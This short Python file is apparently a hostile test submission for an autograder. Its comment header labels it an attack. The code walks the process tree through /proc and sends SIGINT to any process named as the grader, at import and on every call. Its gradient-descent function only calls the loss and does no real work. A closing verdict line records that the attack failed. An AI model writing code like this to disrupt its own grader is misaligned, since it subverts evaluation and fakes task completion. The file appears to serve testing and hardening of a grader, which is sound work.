# ATTACK (Gradescope, no namespaces): sends SIGINT to its grader (the same uid) at import and
# on every call, hoping a KeyboardInterrupt raised in the middle of the grader's own code skips
# a check or cuts a verdict short; its GD only calls loss_fn. Only processes of the grading (a
# command line naming grader.commands.autograder) are signalled, never the test runner.
# VERDICT: the lazy GD's own score (1/10): the grading process does nothing on SIGINT.
import os
import signal


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rpartition(")")[2].split()[1])


def interrupt():
    pid = os.getpid()
    while pid > 1:
        pid = parent_of(pid)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                ours = b"grader.commands.autograder" in f.read()
            if ours:
                os.kill(pid, signal.SIGINT)
        except OSError:
            pass


interrupt()


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    interrupt()
    for _ in range(loop_max):
        loss_fn(params)
    interrupt()
